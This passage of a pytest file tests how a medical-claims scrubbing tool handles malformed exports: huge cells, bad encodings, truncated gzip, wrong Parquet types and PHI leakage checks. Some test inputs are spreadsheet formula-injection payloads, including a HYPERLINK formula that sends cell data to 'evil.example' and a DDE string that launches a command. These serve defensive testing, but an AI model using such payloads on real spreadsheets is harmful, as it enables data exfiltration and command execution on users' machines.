    rows[4][col("curriculum_id")] = "C" * 100_000
    rows[7][col("patient_id")] = f"{PHI}-8-" + "9" * 100_000
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    unreadable = {"C-1005": {"curriculum_id"}, "C-1008": {"patient_id"}}
    return Case(export, Processed(HEADER, rows, unreadable=unreadable))


@case
def _cell_over_128k_characters_in_a_file_with_a_short_row(folder: Path) -> Case:
    # A 200,000-character note in the extra name column, in a file whose line 7 is short (two cells
    # missing at the end; reported as a cell-count problem). Every line comes out, the long cell
    # whole: a cell's length is no reason to refuse a file (Python's csv module stops at 131,072
    # characters unless told otherwise).
    rows = base_rows()
    rows[1][col("patient_name")] = f"{PHI}-N2 " + "a" * 200_000
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[7] = csv_line(rows[6][:-2])
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected = [list(r) for r in rows]
    expected[6] = [*rows[6][:-2], "", ""]
    return Case(export, Processed(HEADER, expected, unreadable={"C-1007": {"cells"}}))


@case
def _non_ascii_header_in_a_file_over_one_megabyte(folder: Path) -> Case:
    # A 1.3 MB export (a 65,000-character note of two-byte characters on every line) with a
    # non-ASCII extra header, "Bemerkung (Ärztin)", where byte 1,048,576 falls inside an "é": the
    # header comes out as written, and every line.
    header = [*HEADER, "Bemerkung (Ärztin)"]
    rows = [[*r, "é" * 65_000] for r in base_rows()]
    if csv_text(header, rows).encode("utf-8")[1 << 20] & 0xC0 != 0x80:
        rows[0][-1] = "a" + rows[0][-1]  # shift the boundary into the middle of a character
    export = folder / "export.csv"
    export.write_text(csv_text(header, rows), encoding="utf-8")
    assert export.read_bytes()[1 << 20] & 0xC0 == 0x80  # a continuation byte
    return Case(export, Processed(header, rows))


HYPERLINK = '=HYPERLINK("https://evil.example/?q="&B2,"Click")'


@case
def _formula_cells(folder: Path) -> Case:
    # Cells a spreadsheet would run: "=HYPERLINK(...)" as units (unreadable: reported, and the
    # finding keeps the value as it is) and as curriculum_id (readable text); "+SUM", "@SUM", "-2+3"
    # and a DDE payload in the extra name column and modifiers. annotated.csv carries each as it
    # is (the contract: cells untouched), and the unreadable one is not echoed. Every line comes out.
    rows = base_rows()
    rows[0][col("units")] = HYPERLINK
    rows[1][col("curriculum_id")] = HYPERLINK
    rows[2][col("patient_name")] = "+SUM(A1:A9)"
    rows[3][col("patient_name")] = "@SUM(1+1)"
    rows[4][col("patient_name")] = "-2+3"
    rows[5][col("charge")] = "-5"
    rows[6][col("modifiers")] = "=cmd|' /C calc'!A0"
    built = _plain(folder, rows)
    assert isinstance(built.expect, Processed)
    built.expect.unreadable = {"C-1001": {"units", "a value (not shown)"}}
    return built


# -- other formats ------------------------------------------------------------------------------------
@refused
def _png_named_csv(folder: Path) -> Case:
    # A PNG image saved as .csv: not an export at all: exit 2 naming the file.
    export = folder / "export.csv"
    export.write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
        + bytes(range(256)) * 8 + PHI.encode() + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    )
    return Case(export, Unprocessable(previous_output=True))


@refused
def _csv_gz_not_gzip(folder: Path) -> Case:
    # A plain CSV named .csv.gz: exit 2 naming the file.
    export = folder / "export.csv.gz"
    export.write_text(csv_text(HEADER, base_rows()), encoding="utf-8")
    return Case(export, Unprocessable())


@refused
def _csv_gz_truncated(folder: Path) -> Case:
    # A gzip cut off half-way (an interrupted transfer): its lines cannot be trusted to be all of
    # them: exit 2 naming the file.
    data = gzip.compress(csv_text(HEADER, base_rows() * 20).encode("utf-8"))
    export = folder / "export.csv.gz"
    export.write_bytes(data[: len(data) // 2])
    return Case(export, Unprocessable(previous_output=True))


@case
def _csv_gz_with_bom_and_crlf(folder: Path) -> Case:
    # A valid gzip of a BOM + CRLF export: all ten lines.
    rows = base_rows()
    export = folder / "export.csv.gz"
    export.write_bytes(gzip.compress(b"\xef\xbb\xbf" + csv_text(HEADER, rows, nl="\r\n").encode("utf-8")))
    return Case(export, Processed(HEADER, rows))


def _records(rows: list[list[str]], header: list[str] = HEADER) -> list[dict[str, str]]:
    return [dict(zip(header, r, strict=True)) for r in rows]


@refused
def _jsonl_non_object_line(folder: Path) -> Case:
    # One line of a JSON Lines export is an array, not an object: not a claim line at all, and the
    # contract's reader refuses the file: exit 2 naming the file (the line's content, with a PHI
    # sentinel, never shown).
    rows = base_rows()
    lines = [json.dumps(r, ensure_ascii=False) for r in _records(rows)]
    lines.insert(4, json.dumps([f"{PHI}-99", "not an object"]))
    export = folder / "export.jsonl"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Case(export, Unprocessable(["export.jsonl"]))


@case
def _jsonl_blank_lines(folder: Path) -> Case:
    # JSON Lines with CRLF endings, a blank line in the middle and trailing blank lines: the blank
    # lines are not records; all ten lines come out.
    rows = base_rows()
    lines = [json.dumps(r, ensure_ascii=False) for r in _records(rows)]
    lines.insert(6, "")
    export = folder / "export.jsonl"
    export.write_text("\r\n".join(lines) + "\r\n\r\n\n", encoding="utf-8")
    return Case(export, Processed(HEADER, rows))


@case
def _parquet_wrong_column_types(folder: Path) -> Case:
    # Parquet with units as text (including "two" and " 2 "), service_date as a timestamp, line_no
    # as int64 and charge as float64. Every line comes out; units cells as written; "two" reported
    # naming units, " 2 " read as 2; the timestamp service_date read as its date.
    rows = base_rows()
    units = ["1", "two", " 2 ", "1", "1", "1", "1", "1", "1", "1"]
    columns: dict[str, Any] = {h: [r[i] for r in rows] for i, h in enumerate(HEADER)}
    columns["units"] = units
    columns["line_no"] = pa.array([1] * 10, pa.int64())
    columns["charge"] = pa.array([45.0] * 10, pa.float64())
    columns["service_date"] = pa.array([dt.datetime(2026, 9, 1)] * 10, pa.timestamp("us"))
    export = folder / "export.parquet"
    pq.write_table(pa.table(columns), export)
    expected: list[list[str | None]] = []
    for r, u in zip(rows, units, strict=True):
        cells: list[str | None] = list(r)
        cells[col("units")] = u
        for typed in ("line_no", "charge", "service_date"):
            cells[col(typed)] = ANY
        expected.append(cells)
    return Case(export, Processed(
        HEADER, expected,
        unreadable={"C-1002": {"units"}},
        reads={"C-1001": {"units": "1", "service_date": "2026-09-01"}, "C-1003": {"units": "2"}},
    ))


# -- running ------------------------------------------------------------------------------------------
@dataclass
class Run:
    name: str
    case: Case
    out: Path
    parent: Path
    before: dict[str, bytes]
    result: subprocess.CompletedProcess[str]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _probe_rules(folder: Path) -> Path:
    rules = folder / "probe-rules"
    rules.mkdir()
    (rules / "TST_PROBE_TYPED.yaml").write_text(PROBE_RULE, encoding="utf-8")
    return rules


def _start(name: str, root: Path, probe: Path) -> tuple[Case, Path, Path, dict[str, bytes], list[str]]:
    folder = root / name
    folder.mkdir()
    built = CASES[name](folder)
    assert isinstance(built.expect, Unprocessable) == (name in REFUSED), name
    parent = folder / "results"
    parent.mkdir()
    out = parent / "out"
    if isinstance(built.expect, Unprocessable) and built.expect.previous_output:
        out.mkdir()
        (out / "annotated.csv").write_text("from the previous run\n", encoding="utf-8")
        (out / "summary.md").write_text("keep me\n", encoding="utf-8")
    args = ["run", str(built.export), "--out", str(out), "--rules", str(probe), "--run-date", RUN_DATE,
            "--fail-on", "never", *built.args]
    return built, out, parent, snapshot(parent), args


@pytest.fixture(scope="module")
def runs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Every selected case, built and run (a few runs at a time); name -> Future[Run]."""
    here = Path(__file__).resolve()
    wanted = sorted({
        item.callspec.params["name"]
        for item in request.session.items
        if item.path.resolve() == here and hasattr(item, "callspec") and "name" in item.callspec.params
    })
    root = tmp_path_factory.mktemp("malformed")
    probe = _probe_rules(root)
    pool = ThreadPoolExecutor(max_workers=max(2, min(8, os.cpu_count() or 2)))
    futures: dict[str, Future[Run]] = {}
    for name in wanted:
        built, out, parent, before, args = _start(name, root, probe)

        def go(name: str = name, built: Case = built, out: Path = out, parent: Path = parent,
               before: dict[str, bytes] = before, args: list[str] = args) -> Run:
            return Run(name, built, out, parent, before, run_cli(*args))

        futures[name] = pool.submit(go)
    yield futures
    pool.shutdown(wait=True)


def get(runs: dict[str, Future[Run]], name: str) -> Run:
    return runs[name].result()


def _expects_exit_2(run: Run) -> bool:
    expect = run.case.expect
    if isinstance(expect, Unprocessable):
        return True
    return expect.or_exit_2_naming is not None and run.result.returncode == 2


def processed(run: Run) -> Processed:
    """The run's expectation, after checking it exited 0 (else the rest is meaningless)."""
    expect = run.case.expect
    assert isinstance(expect, Processed)
    if expect.or_exit_2_naming is not None and run.result.returncode == 2:
        pytest.skip("refused with exit 2, which this case allows")
    assert run.result.returncode == 0, f"exit {run.result.returncode}: {run.result.stderr.strip()[:500]}"
    return expect


def read_annotated(out: Path) -> tuple[list[str], list[list[str]]]:
    with (out / "annotated.csv").open(newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    return table[0], table[1:]


def read_findings(out: Path) -> list[dict[str, Any]]:
    text = (out / "findings.jsonl").read_text(encoding="utf-8")
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def findings_by_line(out: Path) -> list[tuple[list[str], list[dict[str, Any]]]]:
    """Each annotated line's cells with its findings. A damaged line's findings carry no claim id
    (its cells may sit in the wrong columns), so findings are matched to lines by order: they come
    in line order, as many per line as its scrub_rule_ids."""
    header, rows = read_annotated(out)
    findings = iter(read_findings(out))
    ids = header.index("scrub_rule_ids")
    return [(row, [next(findings) for _ in row[ids].split(";") if row[ids]]) for row in rows]


def short(value: Any) -> str:
    text = repr(value)
    return text if len(text) < 120 else text[:100] + f"...({len(text)} chars)"


PROCESSED_CASES = sorted(set(CASES) - REFUSED)
ALL_CASES = sorted(CASES)


# -- the checks -----------------------------------------------------------------------------------------
def test_at_least_30_malformed_exports() -> None:
    assert len(CASES) >= 30


@pytest.mark.parametrize("name", ALL_CASES)
def test_exit_code_one_line_reason_no_traceback_no_phi(runs: dict[str, Future[Run]], name: str) -> None:
    run = get(runs, name)
    result = run.result
    for stream in (result.stdout, result.stderr):
        assert "Traceback" not in stream, stream[-2000:]
        assert PHI not in stream, "PHI printed: " + stream[:2000]
    if _expects_exit_2(run):
        assert result.returncode == 2, (result.returncode, result.stdout[:500], result.stderr[:500])
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1, f"the reason must be one line: {result.stderr[:2000]!r}"
        reason = lines[0]
        assert run.case.export.name in reason, f"the reason must name the file: {reason!r}"
        expect = run.case.expect
        words = expect.naming if isinstance(expect, Unprocessable) else (expect.or_exit_2_naming or [])
        for word in words:
            assert word.lower() in reason.lower(), f"{word!r} not in {reason!r}"
    else:
        assert result.returncode == 0, f"exit {result.returncode}: {result.stderr.strip()[:1000]}"


@pytest.mark.parametrize("name", ALL_CASES)
def test_out_folder_all_or_nothing(runs: dict[str, Future[Run]], name: str) -> None:
    run = get(runs, name)
    if run.result.returncode == 2:
        # Not created, or the previous output left exactly as it was; no staging folder beside it.
        assert snapshot(run.parent) == run.before
        names = sorted(p.name for p in run.parent.iterdir())
        previous = isinstance(run.case.expect, Unprocessable) and run.case.expect.previous_output
        assert names == (["out"] if previous else []), names
    else:
        assert sorted(p.name for p in run.out.iterdir()) == ["annotated.csv", "findings.jsonl", "junit.xml",
                                                              "report.html", "summary.json", "summary.md"]
        assert sorted(p.name for p in run.parent.iterdir()) == ["out"]


@pytest.mark.parametrize("name", PROCESSED_CASES)
def test_every_readable_line_once_in_order_cells_untouched(runs: dict[str, Future[Run]], name: str) -> None:
    run = get(runs, name)
    expect = processed(run)
    header, rows = read_annotated(run.out)
    width = len(expect.header)
    assert header[width:] == SCRUB_COLUMNS, header
    assert [h.strip() for h in header[:width]] == [h.strip() for h in expect.header]
    got_keys = [r[0] for r in rows]
    want_keys = [key(r) for r in expect.rows]
    assert got_keys == want_keys, "lines lost, added or reordered"
    for number, (got, want) in enumerate(zip(rows, expect.rows, strict=True), start=1):
        assert len(got) == width + len(SCRUB_COLUMNS), f"line {number}: {len(got)} cells"
        for column, cell, value in zip(expect.header, got, want, strict=False):
            if value is ANY:
                continue
            assert cell == value, (
                f"line {number} ({want[0]}), column {column!r}: {short(cell)} != {short(value)}"
            )


@pytest.mark.parametrize("name", PROCESSED_CASES)
def test_unreadable_values_reported_naming_the_column(runs: dict[str, Future[Run]], name: str) -> None:
    run = get(runs, name)
    expect = processed(run)
    unreadable: dict[str, list[str]] = {}
    probes: dict[str, dict[str, str]] = {}
    for row, line_findings in findings_by_line(run.out):
        claim = key(row)  # the claim id cell as written, damaged line or not
        for finding in line_findings:
            if finding["rule_id"] == UNREADABLE:
                assert finding["cause"] == "invalid_input"
                unreadable.setdefault(claim, []).append(finding["message"])
            elif finding["rule_id"] == "TST_PROBE_TYPED":
                parts = finding["message"].split("|")[1:]
                probes[claim] = dict(p.split("=", 1) for p in parts)
    keys = [key(r) for r in expect.rows]
    for claim in keys:
        messages = unreadable.get(claim, [])
        wanted = expect.unreadable.get(claim)
        optional = expect.reads_or_reports.get(claim, {})
        if wanted is not None:
            for word in wanted:
                assert any(word in m for m in messages), f"{claim}: no {UNREADABLE} naming {word!r}: {short(messages)}"
        elif not optional:
            assert not messages, f"{claim}: nothing unreadable, but reported: {short(messages)}"
        for column, text in expect.reads.get(claim, {}).items():
            assert not any(f"{column}:" in m for m in messages), f"{claim}: readable {column} reported: {messages}"
            read_as = probes.get(claim, {}).get(column)
            assert read_as == text, f"{claim}: {column} read as {read_as!r}, not {text!r}"
        for column, text in optional.items():
            reported = any(column in m for m in messages)
            read_as = probes.get(claim, {}).get(column)
            assert reported or read_as == text, (
                f"{claim}: {column} silently read as {read_as!r}; expected {text!r} or a report naming {column}"
            )


@pytest.mark.parametrize("name", PROCESSED_CASES)
def test_no_phi_in_findings_summary_or_messages(runs: dict[str, Future[Run]], name: str) -> None:
    run = get(runs, name)
    processed(run)
    for file in ("findings.jsonl", "summary.json", "summary.md", "junit.xml", "report.html"):
        text = (run.out / file).read_text(encoding="utf-8")
        assert PHI not in text, f"PHI in {file}: {text[max(0, text.find(PHI) - 300):text.find(PHI) + 60]!r}"
    header, rows = read_annotated(run.out)
    for column in SCRUB_COLUMNS:
        at = header.index(column)
        leaked = [r[0] for r in rows if PHI in r[at]]
        assert not leaked, f"PHI in {column} of {leaked}"


def test_formula_cells_are_carried_untouched_and_scrub_columns_neutralised(runs: dict[str, Future[Run]]) -> None:
    run = get(runs, "formula-cells")
    processed(run)
    header, rows = read_annotated(run.out)
    assert rows[0][header.index("units")] == HYPERLINK
    assert rows[1][header.index("curriculum_id")] == HYPERLINK
    assert rows[5][header.index("charge")] == "-5"
    messages = [f["message"] for f in read_findings(run.out) if f["rule_id"] == UNREADABLE]
    assert any("units: a value (not shown)" in m for m in messages), messages
    for row in rows:
        for cell in row[-len(SCRUB_COLUMNS):]:
            assert not cell or cell[0] not in "=+-@", f"a scrub column starts like a formula: {cell!r}"


def test_a_formula_in_a_header_cell_is_carried_untouched(tmp_path: Path) -> None:
    header = [*HEADER, HYPERLINK]
    export = tmp_path / "export.csv"
    export.write_text(csv_text(header, [[*r, "x"] for r in base_rows()]), encoding="utf-8")
    done = run_cli("run", str(export), "--out", str(tmp_path / "out"), "--run-date", RUN_DATE, "--fail-on", "never")
    assert done.returncode == 0, done.stderr
    written, _ = read_annotated(tmp_path / "out")
    assert written[: len(header)] == [*HEADER, HYPERLINK]
